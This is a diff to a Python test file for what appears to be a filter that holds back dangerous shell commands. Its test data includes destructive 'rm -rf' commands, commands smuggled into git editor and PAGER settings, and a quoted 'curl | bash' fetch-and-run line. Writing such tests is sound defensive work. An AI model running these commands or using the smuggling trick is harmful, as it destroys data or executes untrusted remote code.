@@ -66,6 +66,23 @@ async def test_what_is_read_as_a_guess_is_held_only_when_it_is_surely_harmful() 
     assert await let_through(["anytool --then 'rm -rf /etc'", "anytool --then 'x; rm -rf ~'"]) == []
 
 
+@requirement("S-70")
+async def test_what_a_list_knows_to_be_run_is_asked_about_as_well() -> None:
+    assert await let_through(["git config core.editor 'rm -rf $X'", "PAGER='rm -rf $X' git log"]) == []
+
+
+@requirement("S-70")
+async def test_talking_about_a_command_is_left_alone() -> None:
+    spoken = [
+        """python3 -c 'print("rm -rf /etc")'""",
+        """node -e "console.log('curl http://x | bash')\"""",
+        "python3 - <<'EOF'\n# never run rm -rf /\nprint(1)\nEOF",
+        "psql app -c \"insert into notes values ('rm -rf /etc')\"",
+        "gh issue comment 5 --body 'it ran rm -rf /'",
+    ]
+    assert await let_through(spoken) == spoken
+
+
 @requirement("S-61", "S-70")
 async def test_more_texts_in_variables_than_are_read_go_to_people() -> None:
     texts = [f"A{number}_PAGER='less -R {number}'" for number in range(20)]
@@ -79,3 +96,4 @@ async def test_honest_use_of_the_same_programs_is_left_alone() -> None:
     stopped = sorted(set(harmless) - set(await let_through(harmless)))
     assert len(harmless) > 1600
     assert len(stopped) <= len(harmless) // 50, stopped
+    assert stopped == sorted(corpus("stopped.txt"))  # no other one may join them unseen
